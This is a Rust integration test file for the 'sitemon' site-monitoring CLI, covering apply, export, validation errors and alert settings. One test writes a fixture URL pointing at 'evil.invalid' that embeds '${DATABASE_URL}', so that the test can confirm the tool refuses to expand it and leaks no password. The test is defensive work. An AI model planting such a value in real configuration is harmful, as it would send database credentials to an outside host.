//! Sites as code through the `sitemon` binary: `apply` (plan, one transaction, a second apply
//! changes nothing, `--prune`, `--dry-run`), `export` round trips, errors naming file, line and
//! column; `add-site` and `update-site` with every option, each bad value refused.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sitemon_testkit::http::TestServer;
use sitemon_testkit::{TestDb, random_topic};
use support::{run, sitemon, sitemon_with_database, stderr, stdout, terminate, wait_with_timeout};

/// The documented example of the repository.
fn example() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/sites.yaml")
}

/// A folder of the test's own under the system's temporary folder.
fn scratch() -> PathBuf {
    let dir = std::env::temp_dir().join(format!("sitemon-apply-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).expect("a scratch folder");
    dir
}

fn apply(db: &TestDb, args: &[&str], token: Option<&str>) -> Output {
    let mut command = sitemon_with_database(&db.url);
    command.arg("apply").args(args);
    if let Some(token) = token {
        command.env("SITEMON_SITE_EXAMPLE_TOKEN", token);
    }
    run(&mut command)
}

#[track_caller]
fn succeeded(output: &Output) -> String {
    assert!(
        output.status.success(),
        "status {:?}: {}",
        output.status,
        stderr(output)
    );
    stdout(output)
}

/// Asserts a failure: exit status 1, one line on stderr that contains `expected`, no stdout.
#[track_caller]
fn assert_fails(output: &Output, expected: &str) {
    let err = stderr(output);
    assert_eq!(output.status.code(), Some(1), "stderr: {err}");
    assert_eq!(err.lines().count(), 1, "not one line: {err:?}");
    assert!(err.starts_with("error: "), "{err}");
    assert!(err.contains(expected), "expected {expected:?} in {err:?}");
    assert!(stdout(output).is_empty(), "stdout: {}", stdout(output));
}

/// Every column of every site, to prove that something changed nothing.
async fn snapshot(db: &TestDb) -> Vec<Value> {
    sqlx::query_scalar("SELECT to_jsonb(w) FROM websites w ORDER BY id")
        .fetch_all(&db.pool)
        .await
        .expect("snapshot")
}

/// What `export --format json` prints, parsed.
fn export_json(db: &TestDb) -> Value {
    let output = run(sitemon_with_database(&db.url).args(["export", "--format", "json"]));
    serde_json::from_str(&succeeded(&output)).expect("JSON")
}

async fn add_history(db: &TestDb, site: i32, checks: i64) {
    for offset in 0..checks {
        sqlx::query(
            "INSERT INTO website_status (kafka_topic, kafka_partition_id, kafka_offset_id,
                 website_id, timestamp_utc, request_info, check_id, is_up, status_code)
             VALUES ('t', 0, $1, $2, now(), '{}', gen_random_uuid(), true, 200)",
        )
        .bind(offset + i64::from(site) * 1000)
        .bind(site)
        .execute(&db.pool)
        .await
        .expect("a stored check");
    }
}

#[tokio::test]
async fn the_example_applies_then_changes_nothing_and_export_round_trips() {
    let db = TestDb::migrated().await;
    // Stored before: the example's first URL with another interval, and a site the example
    // does not have, with three stored checks.
    let output = run(sitemon_with_database(&db.url).args([
        "add-site",
        "https://example.com/",
        "--interval",
        "10",
    ]));
    let changed: i32 = succeeded(&output).trim().parse().expect("id");
    let output = run(sitemon_with_database(&db.url).args(["add-site", "http://127.0.0.1:9/extra"]));
    let extra: i32 = succeeded(&output).trim().parse().expect("id");
    add_history(&db, extra, 3).await;
    let example = example();
    let example = example.to_str().expect("UTF-8 path");
    let before = snapshot(&db).await;

    // The plan alone: printed, nothing written.
    let plan = succeeded(&apply(&db, &[example, "--dry-run"], Some("tok-1")));
    assert_eq!(snapshot(&db).await, before, "--dry-run wrote");
    assert!(
        plan.ends_with("dry run: 5 to add, 1 to change, 0 to remove; nothing written\n"),
        "{plan}"
    );

    let applied = succeeded(&apply(&db, &[example], Some("tok-1")));
    assert_eq!(
        plan.lines().count(),
        applied.lines().count(),
        "{plan}\n{applied}"
    );
    let lines: Vec<&str> = applied.lines().collect();
    assert_eq!(
        lines[0],
        format!("~ https://example.com/ (site {changed}): interval 10 -> 5")
    );
    assert_eq!(lines[1], "+ https://example.org/ (name example-org)");
    assert_eq!(
        lines[2],
        "+ https://api.example.net/v1/health (name api-health)"
    );
    assert_eq!(lines[3], "+ https://static.example.net/");
    assert_eq!(lines[4], "+ http://example.net/old-home");
    assert_eq!(lines[5], "+ https://intranet.example.internal/");
    assert_eq!(lines[6], "= 0 unchanged");
    assert_eq!(
        lines[7],
        "  1 stored sites are not in the file and stay (--prune removes them)"
    );
    assert_eq!(lines[8], "applied: 5 added, 1 changed, 0 removed");

    // Stored as the file says, the token taken from the environment.
    let exported = export_json(&db);
    let sites = exported["sites"].as_array().expect("sites");
    assert_eq!(sites.len(), 7);
    let api = sites
        .iter()
        .find(|s| s["name"] == "api-health")
        .expect("the API site");
    assert_eq!(
        api,
        &json!({
            "url": "https://api.example.net/v1/health",
            "name": "api-health",
            "interval": 60,
            "method": "POST",
            "headers": {"Authorization": "Bearer tok-1", "Content-Type": "application/json"},
            "body": "{\"deep\": true}",
            "expect_status": "200-299",
            "regex_must_not_match": "maintenance",
            "follow_redirects": true,
            "tls_verify": true,
        })
    );

    // Again: nothing to do, nothing written.
    let stored = snapshot(&db).await;
    let again = succeeded(&apply(&db, &[example], Some("tok-1")));
    assert_eq!(
        again,
        "= 6 unchanged\n  1 stored sites are not in the file and stay (--prune removes them)\n\
         nothing to change\n"
    );
    assert_eq!(snapshot(&db).await, stored);

    // export, then apply --prune of its output: a no-op, in both formats.
    let dir = scratch();
    for format in ["yaml", "json"] {
        let output = run(sitemon_with_database(&db.url).args(["export", "--format", format]));
        let file = dir.join(format!("exported.{format}"));
        std::fs::write(&file, succeeded(&output)).expect("write the export");
        let file = file.to_str().expect("UTF-8 path");
        let round = succeeded(&apply(&db, &[file, "--prune"], None));
        assert_eq!(round, "= 7 unchanged\nnothing to change\n", "{format}");
        assert_eq!(snapshot(&db).await, stored, "{format}");
    }

    // A changed token is a change of that site alone, printed without either token, by the
    // dry run and by the apply.
    for args in [&[example, "--dry-run"][..], &[example][..]] {
        let output = apply(&db, args, Some("tok-2"));
        let rotated = succeeded(&output);
        let api = rotated.lines().next().unwrap_or_default();
        assert!(
            api.starts_with("~ https://api.example.net/v1/health (site ")
                && api.ends_with("): header Authorization changed"),
            "{rotated}"
        );
        assert!(rotated.contains("= 5 unchanged"), "{rotated}");
        for token in ["tok-1", "tok-2"] {
            assert!(!rotated.contains(token), "{rotated}");
            assert!(!stderr(&output).contains(token), "{}", stderr(&output));
        }
    }

    // --prune removes the site the file does not have, saying how much history goes.
    let pruned = succeeded(&apply(&db, &[example, "--prune"], Some("tok-2")));
    assert_eq!(
        pruned,
        format!(
            "- http://127.0.0.1:9/extra (site {extra}; its 3 stored checks go with it)\n\
             = 6 unchanged\napplied: 0 added, 0 changed, 1 removed\n"
        )
    );
    let left: i64 = sqlx::query_scalar("SELECT count(*) FROM website_status")
        .fetch_one(&db.pool)
        .await
        .expect("count");
    assert_eq!(left, 0, "the removed site's history went with it");
    assert_eq!(export_json(&db)["sites"].as_array().map(Vec::len), Some(6));

    // A variable that is not set: the file, the line and the column of its `${`.
    let before = snapshot(&db).await;
    let text = std::fs::read_to_string(example).expect("the example");
    let (line, column) = text
        .lines()
        .enumerate()
        .find_map(|(i, l)| {
            l.find("${SITEMON_SITE_EXAMPLE_TOKEN}")
                .map(|c| (i + 1, c + 1))
        })
        .expect("the example uses SITEMON_SITE_EXAMPLE_TOKEN");
    assert_fails(
        &apply(&db, &[example], None),
        &format!(
            "{example}:{line}:{column}: the environment variable SITEMON_SITE_EXAMPLE_TOKEN is \
             not set"
        ),
    );
    assert_eq!(snapshot(&db).await, before);
    let _ = std::fs::remove_dir_all(dir);
    db.drop_database().await;
}

#[tokio::test]
async fn errors_name_file_line_and_column_and_write_nothing() {
    let db = TestDb::migrated().await;
    let output = run(sitemon_with_database(&db.url).args(["add-site", "http://127.0.0.1:9/kept"]));
    succeeded(&output);
    let before = snapshot(&db).await;
    let dir = scratch();
    // Each file has a good site first: a bad entry anywhere refuses the whole file.
    let good = "sites:\n  - url: http://127.0.0.1:9/new\n";
    let cases = [
        (
            "typo.yaml",
            "  - url: http://a.invalid/\n    intervall: 5\n",
            "typo.yaml:4:5: unknown field `intervall`",
        ),
        (
            "range.yaml",
            "  - url: http://a.invalid/\n    expect_status: 300-200\n",
            "range.yaml:4:5: site http://a.invalid/: invalid expect_status \"300-200\": the range 300-200 ends before it starts",
        ),
        (
            "body.yaml",
            "  - url: http://a.invalid/\n    body: hello\n",
            "body.yaml:4:5: site http://a.invalid/: invalid body with method GET: a request body is sent with POST only",
        ),
        (
            "timeout.yaml",
            "  - url: http://a.invalid/\n    interval: 5\n    timeout_ms: 6000\n",
            "timeout.yaml:5:5: site http://a.invalid/: invalid timeout_ms 6000: it must be from 1 to 5000",
        ),
        (
            "header.yaml",
            "  - url: http://a.invalid/\n    headers: {\"Bad Name\": x}\n",
            "header.yaml:4:5: site http://a.invalid/: invalid headers \"Bad Name\"",
        ),
        (
            "method.yaml",
            "  - url: http://a.invalid/\n    method: PUT\n",
            "method.yaml:4:13: invalid method \"PUT\": use GET, HEAD or POST",
        ),
        (
            "url.yaml",
            "  - url: ftp://a.invalid/\n",
            "url.yaml:3:5: site ftp://a.invalid/: invalid URL",
        ),
        (
            "twice.yaml",
            "  - url: http://127.0.0.1:9/new\n",
            "twice.yaml:3:5: the url \"http://127.0.0.1:9/new\" is given twice (first at",
        ),
        (
            "syntax.yaml",
            "  - url: [http://a.invalid/\n",
            "syntax.yaml:3:",
        ),
    ];
    for (name, rest, expected) in cases {
        let file = dir.join(name);
        std::fs::write(&file, format!("{good}{rest}")).expect("write");
        let output = apply(&db, &[file.to_str().expect("UTF-8")], None);
        let expected = format!("{}/{expected}", dir.display());
        assert_fails(&output, &expected);
        assert_eq!(snapshot(&db).await, before, "{name} wrote");
    }

    // A folder: its files in name order, a URL in two files named with both places.
    let folder = dir.join("folder");
    std::fs::create_dir_all(&folder).expect("folder");
    std::fs::write(folder.join("a.yaml"), good).expect("write");
    std::fs::write(folder.join("b.yml"), good).expect("write");
    std::fs::write(folder.join("notes.txt"), "not a sites file").expect("write");
    let output = apply(&db, &[folder.to_str().expect("UTF-8"), "--prune"], None);
    let a = folder.join("a.yaml");
    assert_fails(
        &output,
        &format!(
            "{}:2:5: the url \"http://127.0.0.1:9/new\" is given twice (first at {}:2:5)",
            folder.join("b.yml").display(),
            a.display()
        ),
    );
    std::fs::remove_file(folder.join("b.yml")).expect("remove");
    let applied = succeeded(&apply(
        &db,
        &[folder.to_str().expect("UTF-8"), "--prune"],
        None,
    ));
    assert!(
        applied.starts_with("+ http://127.0.0.1:9/new\n- http://127.0.0.1:9/kept"),
        "{applied}"
    );

    let output = apply(
        &db,
        &[dir.join("missing.yaml").to_str().expect("UTF-8")],
        None,
    );
    assert_fails(&output, "cannot read");

    // Two named sites swapping their URLs: refused before anything is written.
    let named = dir.join("named.yaml");
    std::fs::write(
        &named,
        "sites:\n  - url: http://127.0.0.1:9/x\n    name: x\n  - url: http://127.0.0.1:9/y\n    name: y\n",
    )
    .expect("write");
    succeeded(&apply(&db, &[named.to_str().expect("UTF-8")], None));
    let before = snapshot(&db).await;
    let swapped = dir.join("swapped.yaml");
    std::fs::write(
        &swapped,
        "sites:\n  - url: http://127.0.0.1:9/y\n    name: x\n  - url: http://127.0.0.1:9/x\n    name: y\n",
    )
    .expect("write");
    assert_fails(
        &apply(&db, &[swapped.to_str().expect("UTF-8")], None),
        &format!(
            "{}:2:5: site http://127.0.0.1:9/y: the url \"http://127.0.0.1:9/y\" is still stored site",
            swapped.display()
        ),
    );
    assert_eq!(snapshot(&db).await, before, "the swap wrote");
    let _ = std::fs::remove_dir_all(dir);
    db.drop_database().await;
}

/// A header whose value comes from `${VAR}` arrives at the site, sent by `sitemon check`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_header_from_the_environment_arrives() {
    let db = TestDb::migrated().await;
    let topic = random_topic();
    let server = TestServer::http().await;
    let dir = scratch();
    let file = dir.join("sites.yaml");
    std::fs::write(
        &file,
        format!(
            "sites:\n  - url: {}\n    interval: 1\n    headers:\n      X-Token: \"Bearer ${{SITEMON_SITE_TEST_TOKEN}}\"\n",
            server.url("/ok?token")
        ),
    )
    .expect("write");
    let output = run(sitemon_with_database(&db.url)
        .args(["apply", file.to_str().expect("UTF-8")])
        .env("SITEMON_SITE_TEST_TOKEN", "from-the-environment"));
    succeeded(&output);

    let mut checker = sitemon(&db, &topic)
        .args(["check", "--location", "apply-test"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("sitemon check starts");
    let deadline = Instant::now() + Duration::from_secs(30);
    let request = loop {
        if let Some(request) = server.requests_for("/ok?token").first().cloned() {
            break request;
        }
        if Instant::now() > deadline {
            let _ = checker.kill();
            let _ = checker.wait();
            panic!("no request to /ok?token within 30 s");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    terminate(&checker);
    wait_with_timeout(&mut checker, Duration::from_secs(30), "sitemon check");
    assert!(
        request
            .to_ascii_lowercase()
            .contains("x-token: bearer from-the-environment\r\n"),
        "{request}"
    );
    let _ = std::fs::remove_dir_all(dir);
    db.drop_database().await;
}

fn site_command(db: &TestDb, command: &str, args: &[&str]) -> Output {
    run(sitemon_with_database(&db.url).arg(command).args(args))
}

/// Every option of `add-site` and `update-site`, each bad value refused with its own line and
/// nothing written; then every option stored.
#[tokio::test]
async fn add_site_and_update_site_refuse_each_bad_option() {
    let db = TestDb::migrated().await;
    let output = site_command(
        &db,
        "add-site",
        &["http://127.0.0.1:9/a", "--name", "taken"],
    );
    let a = succeeded(&output).trim().to_owned();
    let before = snapshot(&db).await;

    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["--header", "X-Token abc"],
            "invalid header \"X-Token abc\": write it as Name: value, with a colon",
        ),
        (
            vec!["--header", ": abc"],
            "invalid header \": abc\": it has no name before the colon",
        ),
        (
            vec!["--header", "Bad Name: x"],
            "invalid headers \"Bad Name\": it is not a header name",
        ),
        (
            vec!["--header", "Host: elsewhere"],
            "invalid headers \"Host\": sitemon sets this header itself",
        ),
        (
            vec!["--header", "X-A: 1", "--header", "X-A: 2"],
            "invalid header \"X-A\": it is given twice",
        ),
        (
            vec!["--header", "X-A: caf\u{e9}"],
            "its value holds a control character or a character beyond ASCII",
        ),
        (
            vec!["--expect-status", "300-200"],
            "invalid expect_status \"300-200\": the range 300-200 ends before it starts",
        ),
        (
            vec!["--expect-status", "200,,301"],
            "invalid expect_status \"200,,301\": it needs codes or ranges",
        ),
        (
            vec!["--expect-status", "99"],
            "invalid expect_status \"99\": \"99\" is not an HTTP status from 100 to 599",
        ),
        (
            vec!["--body", "hello"],
            "invalid body with method GET: a request body is sent with POST only",
        ),
        (
            vec!["--method", "HEAD", "--body", "hello"],
            "invalid body with method HEAD",
        ),
        (
            vec!["--method", "PUT"],
            "invalid method \"PUT\": use GET, HEAD or POST",
        ),
        (
            vec!["--method", "HEAD", "--regex", "ok"],
            "invalid regex with method HEAD: a HEAD response has no body to search",
        ),
        (
            vec!["--interval", "5", "--timeout-ms", "6000"],
            "invalid timeout_ms 6000: it must be from 1 to 5000",
        ),
        (vec!["--timeout-ms", "0"], "invalid timeout_ms 0"),
        (
            vec!["--timeout-ms", "soon"],
            "invalid timeout_ms \"soon\": give a whole number of milliseconds, or none",
        ),
        (
            vec!["--timeout-ms", "1000", "--degraded-after-ms", "1000"],
            "invalid degraded_after_ms 1000: it must be from 1 to below the check's timeout (1000 ms)",
        ),
        (
            vec!["--degraded-after-ms", "-1"],
            "invalid degraded_after_ms -1",
        ),
        (
            vec!["--regex-must-not-match", "(unclosed"],
            "invalid regex_must_not_match \"(unclosed\"",
        ),
        (vec!["--regex", "(unclosed"], "invalid regex \"(unclosed\""),
        (vec!["--interval", "0"], "invalid interval 0"),
        (vec!["--name", " padded"], "invalid name \" padded\""),
    ];
    for (options, expected) in &cases {
        eprintln!("case {options:?}");
        let mut add = vec!["http://127.0.0.1:9/b"];
        add.extend(options);
        assert_fails(&site_command(&db, "add-site", &add), expected);
        let mut update = vec![a.as_str()];
        update.extend(options);
        assert_fails(&site_command(&db, "update-site", &update), expected);
        assert_eq!(snapshot(&db).await, before, "{options:?} wrote");
    }
    // What depends on another site or on the stored settings.
    assert_fails(
        &site_command(
            &db,
            "add-site",
            &["http://127.0.0.1:9/b", "--name", "taken"],
        ),
        &format!("the name \"taken\" is already site {a}'s"),
    );
    let output = site_command(
        &db,
        "add-site",
        &["http://127.0.0.1:9/c", "--method", "POST"],
    );
    let c = succeeded(&output).trim().to_owned();
    let before = snapshot(&db).await;
    assert_fails(
        &site_command(&db, "update-site", &[&c, "--name", "taken"]),
        &format!("the name \"taken\" is already site {a}'s"),
    );
    assert_fails(
        &site_command(&db, "update-site", &[&c, "--url", "http://127.0.0.1:9/a"]),
        &format!("http://127.0.0.1:9/a is already registered as site {a}"),
    );
    assert_fails(
        &site_command(&db, "update-site", &[&c, "--method", "GET", "--body", "x"]),
        "invalid body with method GET",
    );
    assert_fails(
        &site_command(&db, "update-site", &["999999", "--interval", "60"]),
        "no site has id 999999",
    );
    assert_eq!(snapshot(&db).await, before);

    // Every option stored, and changed by update-site, which prints what changed.
    let output = site_command(
        &db,
        "add-site",
        &[
            "http://127.0.0.1:9/full",
            "--name",
            "full",
            "--interval",
            "30",
            "--method",
            "post",
            "--header",
            "Authorization: Bearer x",
            "--header",
            "X-Trace:1",
            "--body",
            "{}",
            "--expect-status",
            "200-299, 301",
            "--regex",
            "ok",
            "--regex-must-not-match",
            "maintenance",
            "--degraded-after-ms",
            "800",
            "--timeout-ms",
            "5000",
            "--follow-redirects",
            "false",
            "--tls-verify",
            "false",
        ],
    );
    succeeded(&output);
    let full = json!({
        "url": "http://127.0.0.1:9/full",
        "name": "full",
        "interval": 30,
        "regex": "ok",
        "regex_must_not_match": "maintenance",
        "method": "POST",
        "headers": {"Authorization": "Bearer x", "X-Trace": "1"},
        "body": "{}",
        "expect_status": "200-299,301",
        "degraded_after_ms": 800,
        "timeout_ms": 5000,
        "follow_redirects": false,
        "tls_verify": false,
    });
    assert_eq!(export_json(&db)["sites"][2], full);
    let id = {
        let sites: Vec<Value> = serde_json::from_str(&succeeded(&run(sitemon_with_database(
            &db.url,
        )
        .args(["list-sites", "--json"]))))
        .expect("JSON");
        sites[2]["id"].to_string()
    };
    let output = site_command(
        &db,
        "update-site",
        &[
            &id,
            "--interval",
            "60",
            "--regex",
            "",
            "--timeout-ms",
            "none",
            "--no-headers",
        ],
    );
    assert_eq!(
        succeeded(&output),
        format!(
            "~ http://127.0.0.1:9/full (site {id}): header Authorization removed, header X-Trace \
             removed, interval 30 -> 60, regex \"ok\" -> (none), timeout_ms 5000 -> (none)\n"
        )
    );
    let output = site_command(&db, "update-site", &[&id, "--interval", "60"]);
    assert_eq!(
        succeeded(&output),
        format!("= http://127.0.0.1:9/full (site {id}): unchanged\n")
    );
    db.drop_database().await;
}

/// A site's alert columns: thresholds, locations, reminder seconds, certificate days,
/// channels.
async fn alert_columns(db: &TestDb, url: &str) -> Value {
    sqlx::query_scalar(
        "SELECT jsonb_build_array(failure_threshold, success_threshold, min_locations,
                EXTRACT(EPOCH FROM reminder_every)::int, cert_expiry_days, channels)
         FROM websites WHERE url = $1",
    )
    .bind(url)
    .fetch_one(&db.pool)
    .await
    .expect("the site")
}

#[tokio::test]
async fn alert_settings_are_keys_of_the_sites_file_and_flags_of_update_site() {
    let db = TestDb::migrated().await;
    let added = run(sitemon_with_database(&db.url).args([
        "channel",
        "add",
        "ops",
        "--webhook",
        "http://127.0.0.1:9/hook",
    ]));
    succeeded(&added);
    let dir = scratch();
    let file = dir.join("sites.yaml");
    let url = "http://127.0.0.1:9/alerting";
    std::fs::write(
        &file,
        format!(
            "sites:\n  - url: {url}\n    alerts:\n      failure_threshold: 5\n      \
             min_locations: 2\n      reminder_every: 30m\n      channels: [ops]\n"
        ),
    )
    .expect("write");
    let path = file.to_str().expect("UTF-8");
    succeeded(&apply(&db, &[path], None));
    assert_eq!(
        alert_columns(&db, url).await,
        json!([5, null, 2, 1800, null, ["ops"]])
    );
    let exported = export_json(&db);
    assert_eq!(
        exported["sites"][0]["alerts"],
        json!({"failure_threshold": 5, "min_locations": 2, "reminder_every": "30m",
               "channels": ["ops"]}),
        "{exported}"
    );
    let again = succeeded(&apply(&db, &[path], None));
    assert!(again.contains("= 1 unchanged"), "{again}");

    // A changed alert setting is a change of the site.
    std::fs::write(
        &file,
        format!("sites:\n  - url: {url}\n    alerts:\n      failure_threshold: 2\n"),
    )
    .expect("write");
    let changed = succeeded(&apply(&db, &[path], None));
    assert!(changed.contains(&format!("~ {url}")), "{changed}");
    assert_eq!(
        alert_columns(&db, url).await,
        json!([2, null, null, null, null, null])
    );

    // Bad values name the file, the line and the column, and write nothing.
    let before = snapshot(&db).await;
    for (name, alerts, expected) in [
        (
            "zero.yaml",
            "      failure_threshold: 0\n",
            "zero.yaml:2:5: site http://127.0.0.1:9/alerting: invalid alerts.failure_threshold 0",
        ),
        (
            "typo.yaml",
            "      failure_threshhold: 2\n",
            "typo.yaml:4:7: unknown field `failure_threshhold`",
        ),
        (
            "period.yaml",
            "      reminder_every: soon\n",
            "period.yaml:4:",
        ),
        (
            "channel.yaml",
            "      channels: [ops, nope]\n",
            "invalid alerts.channels \"nope\": no channel has this name",
        ),
    ] {
        let bad = dir.join(name);
        std::fs::write(
            &bad,
            format!("sites:\n  - url: {url}\n    alerts:\n{alerts}"),
        )
        .expect("write");
        let output = apply(&db, &[bad.to_str().expect("UTF-8")], None);
        let err = stderr(&output);
        assert_eq!(output.status.code(), Some(1), "{name}: {err}");
        assert_eq!(err.lines().count(), 1, "{name}: {err:?}");
        assert!(
            err.contains(expected),
            "{name}: expected {expected:?} in {err:?}"
        );
        assert_eq!(snapshot(&db).await, before, "{name} wrote");
    }

    // update-site: each flag changes its column; `none` goes back to the default.
    let id: i32 = sqlx::query_scalar("SELECT id FROM websites WHERE url = $1")
        .bind(url)
        .fetch_one(&db.pool)
        .await
        .expect("id");
    let id = id.to_string();
    let update = |args: &[&str]| {
        let mut all = vec!["update-site", id.as_str()];
        all.extend_from_slice(args);
        run(sitemon_with_database(&db.url).args(all))
    };
    let output = update(&[
        "--success-threshold",
        "4",
        "--reminder-every",
        "0",
        "--cert-expiry-days",
        "30",
        "--channels",
        "ops",
    ]);
    assert!(succeeded(&output).starts_with(&format!("~ {url}")));
    assert_eq!(
        alert_columns(&db, url).await,
        json!([2, 4, null, 0, 30, ["ops"]])
    );
    succeeded(&update(&[
        "--failure-threshold",
        "none",
        "--channels",
        "none",
    ]));
    assert_eq!(
        alert_columns(&db, url).await,
        json!([null, 4, null, 0, 30, null])
    );
    let before = snapshot(&db).await;
    assert_fails(
        &update(&["--channels", "nope"]),
        "invalid alerts.channels \"nope\": no channel has this name",
    );
    assert_fails(
        &update(&["--min-locations", "0"]),
        "invalid alerts.min_locations 0",
    );
    assert_fails(
        &update(&["--reminder-every", "soon"]),
        "invalid alerts.reminder_every \"soon\"",
    );
    assert_eq!(snapshot(&db).await, before, "a refused update wrote");
    db.drop_database().await;
}

/// A sites file from a pull request cannot read sitemon's own settings: `${DATABASE_URL}` is
/// refused with its place, nothing is written, and the password is in no output; `--env`
/// cannot allow it; a variable outside the prefix needs `--env`.
#[tokio::test]
async fn only_allowed_variables_expand_and_no_value_is_printed() {
    let db = TestDb::migrated().await;
    // The file is refused before any connection: a database URL whose password is a marker
    // shows whether it leaks.
    let password = "pw-3f9c2a-not-for-evil";
    let marked = match url_password(&db.url) {
        Some(real) => db
            .url
            .replacen(&format!(":{real}@"), &format!(":{password}@"), 1),
        None => panic!("the test database URL has a password"),
    };
    let dir = scratch();
    let evil = dir.join("evil.yaml");
    std::fs::write(
        &evil,
        "sites:\n  - url: https://evil.invalid/?x=${DATABASE_URL}\n",
    )
    .expect("write");
    let evil = evil.to_str().expect("UTF-8");
    let before = snapshot(&db).await;
    for args in [
        &[evil, "--dry-run"][..],
        &[evil][..],
        &[evil, "--dry-run", "--env", "DATABASE_URL"][..],
        &[evil, "--env", "PGPASSWORD"][..],
    ] {
        let output = run(sitemon_with_database(&marked)
            .arg("apply")
            .args(args)
            .env("PGPASSWORD", password));
        let (out, err) = (stdout(&output), stderr(&output));
        assert!(!output.status.success(), "{args:?}: {out}");
        assert!(
            !out.contains(password) && !err.contains(password),
            "{out}{err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
        if args.contains(&"--env") {
            assert_eq!(output.status.code(), Some(2), "{err}");
            assert!(
                err.starts_with(&format!(
                    "error: invalid --env: {} is ",
                    args[args.len() - 1]
                )),
                "{err}"
            );
            assert!(
                err.contains("never expands sitemon's own settings"),
                "{err}"
            );
        } else {
            assert_fails(
                &output,
                &format!(
                    "{evil}:2:34: ${{DATABASE_URL}} is sitemon's database connection setting: a \
                     sites file never expands sitemon's own settings"
                ),
            );
        }
    }
    assert_eq!(snapshot(&db).await, before, "a refused file wrote");

    // Outside the prefix: refused, saying how to allow it; allowed with --env.
    let other = dir.join("other.yaml");
    std::fs::write(
        &other,
        "sites:\n  - url: \"http://127.0.0.1:9/${API_KEY}\"\n",
    )
    .expect("write");
    let other = other.to_str().expect("UTF-8");
    let with = |args: &[&str]| {
        run(sitemon_with_database(&db.url)
            .arg("apply")
            .args(args)
            .env("API_KEY", "k-123"))
    };
    assert_fails(
        &with(&[other, "--dry-run"]),
        &format!(
            "{other}:2:30: ${{API_KEY}} is not allowed in a sites file: only variables named \
             SITEMON_SITE_* expand, and those allowed with --env API_KEY"
        ),
    );
    let planned = succeeded(&with(&[other, "--dry-run", "--env", "API_KEY"]));
    assert_eq!(
        planned,
        "+ http://127.0.0.1:9/${API_KEY}\n= 0 unchanged\n\
         dry run: 1 to add, 0 to change, 0 to remove; nothing written\n"
    );
    let _ = std::fs::remove_dir_all(dir);
    db.drop_database().await;
}

/// The password of a `postgres://user:password@host/db` URL.
fn url_password(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let userinfo = rest.split_once('@')?.0;
    Some(userinfo.split_once(':')?.1.to_owned()).filter(|p| !p.is_empty())
}
